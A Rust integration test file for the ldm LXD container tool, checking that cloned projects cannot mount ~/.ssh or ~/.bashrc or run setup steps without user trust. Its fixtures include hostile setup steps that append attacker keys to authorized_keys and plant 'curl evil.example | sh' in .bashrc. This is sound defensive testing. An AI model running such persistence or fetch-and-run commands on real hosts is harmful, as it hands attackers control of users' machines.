//! Issue 22: a cloned project, or the container itself, never reaches the
//! host until its user says so. One test per finding, with the issue's
//! scenario, against the LXD API TEST DOUBLE (`crates/lxd-double`): exit
//! codes, stderr, the files, and that no request was made where that is
//! the point. (Finding 4, the derived files, is the store's; 6, the
//! setup script read racing a swapped folder, is
//! `store::project_file::tests::a_folder_swapped_for_a_link_while_reading_never_yields_an_outside_byte`.)

mod common;

use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use common::api::Env;
use ldm::model::{Mutation, Project};
use ldm::store::{Options, Paths, Store};
use lxd_double::Request;
use serde_json::Value;

/// A project `p` whose LXD has every image.
fn env() -> Env {
    let env = Env::new("p");
    env.double.state().behaviour.images_on_demand = true;
    env
}

/// Run as root, ldm mounts only what the project folder's owner owns, and
/// never host root's files: make the folder (and `paths`) a user's.
fn as_user(env: &Env, paths: &[&Path]) {
    // SAFETY: geteuid cannot fail.
    if unsafe { libc::geteuid() } != 0 {
        return;
    }
    for p in std::iter::once(env.dir.as_path()).chain(paths.iter().copied()) {
        std::os::unix::fs::chown(p, Some(1000), Some(1000)).unwrap();
    }
}

/// The home folder of the runs, resolved.
fn home(env: &Env) -> PathBuf {
    std::fs::canonicalize(&env.home).unwrap()
}

/// Makes the project folder a fresh clone of a repository holding `yaml`
/// (and nothing of ldm's own: no log, no locks, no derived files).
fn clone_with(env: &Env, yaml: &str) {
    for e in std::fs::read_dir(&env.dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_file() {
            std::fs::remove_file(p).unwrap();
        }
    }
    std::fs::write(env.dir.join("containers.yaml"), yaml).unwrap();
}

/// Every request so far, forgotten.
fn calls(env: &Env) -> Vec<Request> {
    env.take_requests()
}

/// The disk devices with a host source that `reqs` add to instances.
fn added(reqs: &[Request]) -> Vec<Value> {
    reqs.iter()
        .filter(|r| r.is("PATCH", "/1.0/instances/*") || r.is("PUT", "/1.0/instances/*"))
        .filter_map(|r| r.json()["devices"].as_object().cloned())
        .flat_map(|d| d.into_iter().map(|(_, v)| v))
        .filter(|d| d["type"] == "disk" && d["source"].is_string())
        .collect()
}

/// The host sources of the disk devices `reqs` add.
fn added_sources(reqs: &[Request]) -> Vec<String> {
    added(reqs)
        .iter()
        .map(|d| d["source"].as_str().unwrap().to_string())
        .collect()
}

/// Did `reqs` create an instance?
fn launched(reqs: &[Request]) -> bool {
    reqs.iter().any(|r| r.is("POST", "/1.0/instances"))
}

/// The commands `reqs` ran in instances.
fn execs(reqs: &[Request]) -> Vec<Vec<String>> {
    reqs.iter()
        .filter(|r| r.is("POST", "/1.0/instances/*/exec"))
        .map(|r| serde_json::from_value(r.json()["command"].clone()).unwrap())
        .collect()
}

/// `reqs` as `METHOD TARGET` lines, for messages.
fn show(reqs: &[Request]) -> Vec<String> {
    reqs.iter().map(Request::line).collect()
}

/// Finding 1: a repository ships a containers.yaml whose container mounts
/// `vendor/cache` (a link it ships, to ~/.ssh), ~/.ssh by path and
/// ~/.bashrc, and whose setup step appends to them. `ldm up` in the fresh
/// clone stops before any LXD call and lists the three mounts and the
/// step; after `ldm trust --yes` it goes on, without the refused mounts.
#[test]
fn a_fresh_clone_asks_before_its_mounts_and_steps_and_never_mounts_home_dot_files() {
    let env = env();
    let h = home(&env);
    std::fs::create_dir_all(h.join(".ssh")).unwrap();
    std::fs::write(h.join(".ssh/authorized_keys"), "ssh-ed25519 MINE\n").unwrap();
    std::fs::write(h.join(".bashrc"), "# mine\n").unwrap();
    let before = (
        std::fs::read(h.join(".ssh/authorized_keys")).unwrap(),
        std::fs::read(h.join(".bashrc")).unwrap(),
    );
    let step = "cat /home/dev/cache/evil.pub >> /root/.ssh/authorized_keys; echo 'curl evil.example | sh' >> /root/.bashrc";
    clone_with(
        &env,
        &format!(
            "project: p\ncontainers:\n  dev:\n    image: img\n    mounts:\n    - vendor/cache:/home/dev/cache\n    - {h}/.ssh:/root/.ssh\n    - {h}/.bashrc:/root/.bashrc\n    setup:\n    - \"{step}\"\n",
            h = h.display()
        ),
    );
    std::fs::create_dir(env.dir.join("vendor")).unwrap();
    std::os::unix::fs::symlink(h.join(".ssh"), env.dir.join("vendor/cache")).unwrap();
    as_user(&env, &[]);
    calls(&env);

    let run = env.fail(&["up"]);
    assert!(calls(&env).is_empty(), "no LXD call before the user allows");
    run.err_has("ldm trust");
    for written in [
        "vendor/cache:/home/dev/cache".to_string(),
        format!("{}/.ssh:/root/.ssh", h.display()),
        format!("{}/.bashrc:/root/.bashrc", h.display()),
    ] {
        run.err_has(&format!("mount {written} into dev"));
    }
    // The link is shown resolved, where it really leads.
    run.err_has(&format!(
        "mount vendor/cache:/home/dev/cache into dev: {}/.ssh read-write",
        h.display()
    ));
    run.err_has(&format!("setup step for dev: {step}"));
    // `ldm trust` shows the same list; without a terminal it needs --yes.
    let shown = env.fail(&["trust"]);
    assert!(shown
        .stdout
        .contains(&format!("setup step for dev: {step}")));
    shown.err_has("--yes");
    assert!(calls(&env).is_empty());

    env.trust();
    let run = env.ok(&["up"]);
    let argvs = calls(&env);
    assert!(launched(&argvs), "{:#?}", show(&argvs));
    assert!(
        added_sources(&argvs).is_empty(),
        "no refused source is mounted from the file: {:#?}",
        added(&argvs)
    );
    run.err_has("not mounting vendor/cache:/home/dev/cache");
    run.err_has("--force");
    assert!(
        execs(&argvs)
            .iter()
            .any(|a| a.last().is_some_and(|s| s == step)),
        "the allowed step ran: {:#?}",
        execs(&argvs)
    );
    assert_eq!(
        before,
        (
            std::fs::read(h.join(".ssh/authorized_keys")).unwrap(),
            std::fs::read(h.join(".bashrc")).unwrap(),
        ),
        "host files unchanged"
    );
}

/// Inserts `lines` after the line `after` of containers.yaml, as a process
/// in the container writing the project folder through its mount would.
fn container_writes(env: &Env, after: &str, lines: &str) {
    let path = env.dir.join("containers.yaml");
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains(after), "{text}");
    std::fs::write(&path, text.replacen(after, &format!("{after}{lines}"), 1)).unwrap();
}

/// Finding 2: a process in the container rewrites containers.yaml (it is in
/// the mounted folder) to add a mount of ~/.ssh and a setup step. The next
/// `doctor --fix`, `container setup` and `up` refuse before any LXD call;
/// what applies nothing new goes on with one line; after `ldm trust` the
/// mount the user allowed is added, ~/.ssh never.
#[test]
fn a_container_rewriting_the_project_file_reaches_nothing_until_the_user_allows() {
    let env = env();
    let shared = env.dir.parent().unwrap().join("shared");
    std::fs::create_dir(&shared).unwrap();
    let h = home(&env);
    std::fs::create_dir_all(h.join(".ssh")).unwrap();
    as_user(&env, &[&shared, &h.join(".ssh")]);
    env.ok(&["container", "create", "dev", "img"]);
    container_writes(
        &env,
        "    - .:/home/dev/p\n",
        &format!(
            "    - {}:/srv/shared\n    - {}/.ssh:/root/.ssh\n    setup:\n    - echo pwned >> /root/.ssh/authorized_keys\n",
            shared.display(),
            h.display()
        ),
    );
    calls(&env);

    for cmd in [
        &["doctor", "--fix"][..],
        &["container", "setup", "dev"],
        &["up"],
        &["up", "dev"],
    ] {
        let run = env.fail(cmd);
        assert!(calls(&env).is_empty(), "{cmd:?} called LXD");
        run.err_has("ldm trust");
        if cmd[0] == "container" {
            run.err_has("setup step for dev: echo pwned >> /root/.ssh/authorized_keys");
        } else {
            run.err_has(&format!("mount {}:/srv/shared into dev", shared.display()));
        }
    }
    // Commands that apply nothing of it go on, saying what waits.
    for cmd in [
        &["list"][..],
        &["config", "get", "defaults.ports"],
        &["doctor"],
        &["down", "dev"],
    ] {
        let run = env.run(cmd);
        assert_ne!(run.code, 2, "{cmd:?}: {}", run.stderr);
        run.err_has(
            "waiting for your trust in this folder: 2 mounts outside the project, 1 setup step",
        );
    }
    calls(&env);

    env.trust();
    env.ok(&["up", "dev"]);
    let run = env.run(&["doctor", "--fix"]);
    let argvs = calls(&env);
    assert_eq!(
        added_sources(&argvs),
        [shared.canonicalize().unwrap().display().to_string()],
        "the allowed mount is added, ~/.ssh never: {:#?}\n{}",
        added(&argvs),
        run.stderr
    );
    run.err_has(&format!("Not mounting {}/.ssh:/root/.ssh", h.display()));
    env.ok(&["container", "setup", "dev"]);
    assert!(execs(&calls(&env))
        .iter()
        .any(|a| a.last().is_some_and(|s| s.contains("echo pwned"))));
}

/// Finding 3: each of these was mounted without `--force`. Now each is
/// refused, exit 1, nothing added to LXD, and the message names --force.
#[test]
fn system_folders_home_dot_files_and_files_in_home_are_refused_without_force() {
    let env = env();
    let h = home(&env);
    std::fs::create_dir_all(h.join(".config")).unwrap();
    std::fs::write(h.join("notes.txt"), "mine").unwrap();
    as_user(&env, &[&h.join(".config"), &h.join("notes.txt")]);
    env.ok(&["container", "create", "dev", "img", "--no-mount"]);
    calls(&env);
    for (source, why) in [
        ("/etc/cron.d".to_string(), "inside /etc"),
        ("/etc/shadow".to_string(), "inside /etc"),
        ("/usr".to_string(), "the system folder /usr"),
        ("/boot".to_string(), "/boot"),
        ("/run".to_string(), "/run"),
        ("/dev/null".to_string(), "inside /dev"),
        (format!("{}/.config", h.display()), "dot-file or dot-folder"),
        (
            format!("{}/notes.txt", h.display()),
            "directly in the home folder",
        ),
        (h.display().to_string(), "is a home folder"),
        ("/var/lib".to_string(), "/var/lib"),
    ] {
        if !Path::new(&source).exists() {
            continue;
        }
        let run = env.fail(&["mount", "dev", &format!("{source}:/mnt/x")]);
        run.err_has(why);
        run.err_has("--force");
        assert!(
            added_sources(&calls(&env)).is_empty(),
            "{source} reached LXD"
        );
        assert!(env.project().containers["dev"].mounts.is_empty());
    }
}

/// A log made in another folder: the YAML names it (as an ldm fold does),
/// and its records after the YAML's mark add a mount of ~/.ssh and a
/// password that containers.yaml does not show.
fn shipped_log(h: &Path) -> (String, Vec<u8>) {
    let t = tempfile::tempdir().unwrap();
    let mut store =
        Store::create(t.path(), &Project::new("p", vec![]), Options::default()).unwrap();
    store
        .commit(|_| {
            let m = vec![Mutation::ContainerAdded {
                name: "dev".into(),
                image: "img".into(),
                pending: None,
            }];
            Ok::<_, ldm::store::StoreError>((m, ()))
        })
        .unwrap();
    let opts = Options {
        fold_max: 0,
        ..Options::default()
    };
    let mut unfolded = Store::open(Paths::in_dir(t.path()), opts);
    unfolded
        .commit(|_| {
            let m = vec![
                Mutation::MountAdded {
                    container: "dev".into(),
                    mount: format!("{}/.ssh:/root/.ssh", h.display()),
                },
                Mutation::UserPasswordSet {
                    container: None,
                    password: Some("attacker-pw".into()),
                },
            ];
            Ok::<_, ldm::store::StoreError>((m, ()))
        })
        .unwrap();
    (
        std::fs::read_to_string(t.path().join("containers.yaml")).unwrap(),
        std::fs::read(t.path().join("containers.log")).unwrap(),
    )
}

/// Finding 5: a containers.log shipped in a repository is applied on top of
/// the reviewed YAML. Its effect goes through the trust check like the
/// YAML's, and ldm says once that this checkout never made that log.
#[test]
fn a_shipped_log_is_checked_like_the_yaml_and_said_once() {
    let env = env();
    let h = home(&env);
    let (yaml, log) = shipped_log(&h);
    assert!(
        !yaml.contains(".ssh") && !yaml.contains("attacker-pw"),
        "{yaml}"
    );
    clone_with(&env, &yaml);
    std::fs::write(env.dir.join("containers.log"), log).unwrap();
    as_user(&env, &[]);
    calls(&env);

    let run = env.fail(&["up", "dev"]);
    assert!(calls(&env).is_empty());
    run.err_has(&format!("mount {}/.ssh:/root/.ssh into dev", h.display()));
    run.err_has("containers.log (log ");
    run.err_has("was not made by ldm in this folder");
    // Said once.
    let again = env.run(&["list"]);
    assert!(
        !again.stderr.contains("was not made by ldm"),
        "{}",
        again.stderr
    );
    again.err_has("waiting for your trust");
}

/// A log ldm starts itself in a fresh clone (the repository ships only
/// containers.yaml) is its own: never announced as one it did not make.
#[test]
fn a_log_ldm_starts_in_a_clone_is_its_own() {
    let env = env();
    clone_with(
        &env,
        "project: p\ndefaults:\n  setup:\n  - make deps\ncontainers: {}\n",
    );
    env.ok(&["config", "set", "defaults.ports", "3000"]);
    assert!(env.dir.join("containers.log").exists());
    for _ in 0..2 {
        let run = env.ok(&["list"]);
        assert!(
            !run.stderr.contains("was not made by ldm"),
            "{}",
            run.stderr
        );
    }
    env.ok(&["compact"]);
    let run = env.ok(&["list"]);
    assert!(
        !run.stderr.contains("was not made by ldm"),
        "{}",
        run.stderr
    );
}

/// Every byte of every file under `dir`.
fn all_bytes(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        let md = std::fs::symlink_metadata(&p).unwrap();
        if md.is_dir() {
            out.extend(all_bytes(&p));
        } else if md.is_file() {
            out.push((p.clone(), std::fs::read(&p).unwrap()));
        }
    }
    out
}

fn holding(dir: &Path, secret: &str) -> Vec<PathBuf> {
    all_bytes(dir)
        .into_iter()
        .filter(|(_, b)| b.windows(secret.len()).any(|w| w == secret.as_bytes()))
        .map(|(p, _)| p)
        .collect()
}

/// Finding 7, secrets: `config unset defaults.user.password` left the
/// password in containers.log. Changing or removing a password leaves no
/// copy of the old one in the project folder or ldm's state.
#[test]
fn a_changed_or_removed_password_leaves_no_copy_behind() {
    let env = env();
    env.ok(&["config", "set", "defaults.ports", "3000"]);
    env.ok(&["config", "set", "defaults.user.password", "old-secret-1"]);
    env.ok(&["config", "set", "defaults.user.name", "ann"]);
    assert!(!holding(&env.dir, "old-secret-1").is_empty());
    env.ok(&["config", "set", "defaults.user.password", "new-secret-2"]);
    assert_eq!(holding(&env.dir, "old-secret-1"), Vec::<PathBuf>::new());
    assert_eq!(holding(&env.home, "old-secret-1"), Vec::<PathBuf>::new());
    env.seed_container("dev", "img", false);
    env.ok(&[
        "config",
        "set",
        "containers.dev.user.password",
        "own-secret-3",
    ]);
    env.ok(&["config", "unset", "defaults.user.password"]);
    env.ok(&["config", "unset", "containers.dev.user.password"]);
    for gone in ["new-secret-2", "own-secret-3"] {
        assert_eq!(holding(&env.dir, gone), Vec::<PathBuf>::new(), "{gone}");
    }
    // What else was set stays.
    let p = env.project();
    assert_eq!(p.defaults.ports, [3000]);
    assert_eq!(p.defaults.user.unwrap().name.as_deref(), Some("ann"));
}

/// Finding 7, terminal escapes: a password (or image) from a cloned file is
/// printed escaped.
#[test]
fn a_password_from_a_file_is_printed_escaped() {
    let env = env();
    env.ok(&["config", "set", "defaults.user.password", "pw\x1b[2J\x07"]);
    as_user(&env, &[]);
    let run = env.ok(&["container", "create", "dev", "img", "--no-mount"]);
    assert!(
        run.stdout.contains("password:  pw\\x1b[2J\\x07"),
        "{}",
        run.stdout
    );
    assert!(!run.stdout.contains('\x1b'), "{:?}", run.stdout);
}

/// Finding 7, ignore rules: in a git work tree, `ldm create` writes rules
/// so that `git add -A` commits containers.yaml and none of ldm's own
/// files, and says so.
#[test]
fn create_in_a_git_work_tree_ignores_ldm_s_own_files() {
    let t = tempfile::tempdir().unwrap();
    let repo = t.path().join("repo");
    let dir = repo.join("app");
    std::fs::create_dir_all(&dir).unwrap();
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(args)
            .current_dir(&repo)
            .output()
            .unwrap_or_else(|e| panic!("this test needs git: {e}"));
        assert!(out.status.success(), "git {args:?}: {out:?}");
        String::from_utf8(out.stdout).unwrap()
    };
    git(&["init", "-q"]);
    let ldm = |args: &[&str]| {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_ldm"))
            .args(args)
            .current_dir(&dir)
            .env("HOME", t.path())
            .env("XDG_STATE_HOME", t.path().join("state"))
            .env("LDM_LXC", "/nonexistent/lxc")
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        String::from_utf8(out.stderr).unwrap()
    };
    let said = ldm(&["create", "--name", "app"]);
    assert!(said.contains(".gitignore"), "{said}");
    ldm(&["config", "set", "defaults.user.password", "pw1"]);
    ldm(&["config", "set", "defaults.user.password", "pw2"]);
    for f in [
        "containers.log.cut-20260101T000000Z",
        "containers.log.dropped-20260101T000000Z",
        "containers.log.broken-20260101T000000Z",
        "containers.yaml.edited-20260101T000000Z",
        ".containers.yaml.tmp-1",
        ".containers.log.tmp-1",
        ".containers.cache",
        ".containers.folded",
    ] {
        std::fs::write(dir.join(f), "x").unwrap();
    }
    git(&["add", "-A"]);
    let staged = git(&["diff", "--cached", "--name-only"]);
    assert_eq!(staged, "app/.gitignore\napp/containers.yaml\n");
    // A second create elsewhere in the tree does not repeat the rules.
    let rules = std::fs::read_to_string(dir.join(".gitignore")).unwrap();
    assert_eq!(rules.matches("/containers.log\n").count(), 1);
}

/// Finding 3, owners: a mount never gives the container's root more than
/// the host user has. Run as root, ldm mounts only sources the project
/// folder's owner owns (even with --force); as a user, another user's
/// source is mounted without shift=true (raw.idmap maps that user alone).
#[test]
fn another_user_s_source_gets_no_shift_and_as_root_is_refused() {
    let env = env();
    as_user(&env, &[]);
    env.ok(&["container", "create", "dev", "img", "--no-mount"]);
    calls(&env);
    // SAFETY: geteuid cannot fail.
    if unsafe { libc::geteuid() } == 0 {
        let other = env.dir.parent().unwrap().join("others");
        std::fs::create_dir(&other).unwrap();
        std::os::unix::fs::chown(&other, Some(1001), Some(1001)).unwrap();
        let spec = format!("{}:/srv/o", other.display());
        let run = env.fail(&["mount", "dev", &spec, "--force"]);
        run.err_has("not owned by the project folder's owner");
        assert!(added_sources(&calls(&env)).is_empty());
        return;
    }
    // /tmp is root's, and no system folder.
    let me = std::fs::metadata(&env.dir).unwrap();
    let subid = env.folder("subid-me");
    std::fs::create_dir_all(&subid).unwrap();
    for f in ["subuid", "subgid"] {
        let id = if f == "subuid" { me.uid() } else { me.gid() };
        std::fs::write(subid.join(f), format!("root:{id}:1\n")).unwrap();
    }
    let run = env.run_env(
        &["mount", "dev", "/tmp:/srv/tmp"],
        &[("LDM_SUBID_DIR", subid.to_str().unwrap())],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let adds = added(&calls(&env));
    assert_eq!(adds.len(), 1, "{adds:#?}");
    assert!(adds[0]["shift"] != "true", "{adds:?}");
}

/// The `security.*` config of the instance `reqs` create, `KEY=VALUE`.
fn launch_config(reqs: &[Request]) -> Vec<String> {
    let launch = reqs
        .iter()
        .find(|r| r.is("POST", "/1.0/instances"))
        .unwrap_or_else(|| panic!("no launch: {:#?}", show(reqs)));
    let config = launch.json()["config"].as_object().cloned().unwrap();
    config
        .iter()
        .filter(|(k, _)| k.starts_with("security."))
        .map(|(k, v)| format!("{k}={}", v.as_str().unwrap()))
        .collect()
}

/// Finding 8: every container got nesting and syscall interception, with
/// no way to see or turn them off. They stay the default (Docker inside);
/// `security:` turns each off per project or container, which needs no
/// trust; turning one back on does.
#[test]
fn isolation_settings_are_the_default_turn_off_freely_and_back_on_only_when_allowed() {
    let env = env();
    as_user(&env, &[]);
    env.ok(&["container", "create", "a", "img", "--no-mount"]);
    assert_eq!(
        launch_config(&calls(&env)),
        [
            "security.nesting=true",
            "security.syscalls.intercept.mknod=true",
            "security.syscalls.intercept.setxattr=true"
        ]
    );
    // Turned off by hand for the project, one back on for container b.
    let path = env.dir.join("containers.yaml");
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(
        &path,
        text.replacen(
            "containers:\n",
            "defaults:\n  security: {nesting: false, intercept_mknod: false, intercept_setxattr: false}\ncontainers:\n",
            1,
        ),
    )
    .unwrap();
    env.ok(&["container", "create", "b", "img", "--no-mount"]);
    assert_eq!(
        launch_config(&calls(&env)),
        [
            "security.nesting=false",
            "security.syscalls.intercept.mknod=false",
            "security.syscalls.intercept.setxattr=false"
        ],
        "isolation up needs nobody's word"
    );
    // Something (the container) turns nesting back on for new containers.
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, text.replacen("nesting: false", "nesting: true", 1)).unwrap();
    let run = env.fail(&["container", "create", "c", "img", "--no-mount"]);
    assert!(calls(&env).is_empty());
    run.err_has("security.nesting back on for new containers");
    env.trust();
    env.ok(&["container", "create", "c", "img", "--no-mount"]);
    assert_eq!(
        launch_config(&calls(&env))[0],
        "security.nesting=true",
        "allowed, it applies"
    );
}

/// What the user types is allowed as typed: a mount of an outside folder
/// (`ldm mount`) and a remote (`config set remote`), so a re-create from
/// the file asks nothing; `--show` lists it; `--revoke` forgets it.
#[test]
fn what_the_user_types_is_allowed_and_trust_shows_and_revokes_it() {
    let env = env();
    let shared = env.dir.parent().unwrap().join("shared");
    std::fs::create_dir(&shared).unwrap();
    as_user(&env, &[&shared]);
    env.ok(&["container", "create", "dev", "img"]);
    let spec = format!("{}:/srv/shared:ro", shared.display());
    env.ok(&["mount", "dev", &spec]);
    let run = env.ok(&["list"]);
    assert!(!run.stderr.contains("waiting"), "{}", run.stderr);
    let shown = env.ok(&["trust", "--show", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&shown.stdout).unwrap();
    assert_eq!(
        v["allowed"],
        serde_json::json!([{"kind": "mount", "source": shared.canonicalize().unwrap(), "readonly": true}])
    );
    assert_eq!(v["waiting"], serde_json::json!([]));
    // LXD lost it: `up` re-creates it with its mounts, asking nothing.
    env.ok(&["down", "dev"]);
    env.unseed("p-dev");
    calls(&env);
    env.ok(&["up"]);
    assert!(
        added_sources(&calls(&env)).contains(&shared.canonicalize().unwrap().display().to_string())
    );

    let run = env.ok(&["trust", "--revoke"]);
    assert!(
        run.stdout.contains("Forgot what you allowed"),
        "{}",
        run.stdout
    );
    let run = env.fail(&["up"]);
    run.err_has(&format!("mount {spec} into dev"));
    let run = env.ok(&["trust", "--yes"]);
    assert!(run.stdout.contains("Allowed for"), "{}", run.stdout);
    let run = env.ok(&["trust"]);
    assert!(run.stdout.contains("Nothing waits"), "{}", run.stdout);

    // A remote typed by the user is allowed; one the file names is not.
    env.ok(&["config", "set", "remote", "team"]);
    let run = env.ok(&["trust", "--show"]);
    assert!(run.stdout.contains("remote team"), "{}", run.stdout);
    let path = env.dir.join("containers.yaml");
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, text.replacen("remote: team", "remote: elsewhere", 1)).unwrap();
    calls(&env);
    for cmd in [
        &["down", "dev"][..],
        &["ssh", "dev", "--", "true"],
        &["mv", "README", "dev:/tmp/"],
    ] {
        let run = env.fail(cmd);
        run.err_has("remote elsewhere");
        assert!(calls(&env).is_empty(), "{cmd:?}");
    }
}

/// `lxd_project:` from a cloned file says where the containers live (and
/// ldm makes that LXD project on the server): like `remote:`, nothing of
/// it reaches the server until the user allows it. `ldm up` in the fresh
/// clone asks first and makes no request; after `ldm trust --yes` the
/// containers go in that LXD project.
#[test]
fn a_cloned_lxd_project_is_asked_for_before_any_request() {
    let env = env();
    clone_with(
        &env,
        "project: p\nlxd_project: theirs\ncontainers:\n  dev:\n    image: img\n",
    );
    as_user(&env, &[]);
    calls(&env);
    let run = env.fail(&["up"]);
    assert!(calls(&env).is_empty(), "no LXD call before the user allows");
    run.err_has("LXD project theirs");
    run.err_has("ldm trust");
    assert!(!env.double.state().projects.contains_key("theirs"));

    env.ok(&["trust", "--yes"]);
    // `up` uses the LXD project; `ldm create --lxd-project` makes it, and
    // says so when the server lacks it.
    let r = env.fail(&["up"]);
    assert!(
        r.stdout
            .contains("LXD has no project theirs (the project file's lxd_project:"),
        "{r:#?}"
    );
    env.double
        .add_project("theirs", &[("features.images", "false")]);
    env.ok(&["up"]);
    let reqs = calls(&env);
    assert!(launched(&reqs), "{:#?}", show(&reqs));
    assert!(
        env.double.instance("theirs", "p-dev").is_some(),
        "{:#?}",
        show(&reqs)
    );
}
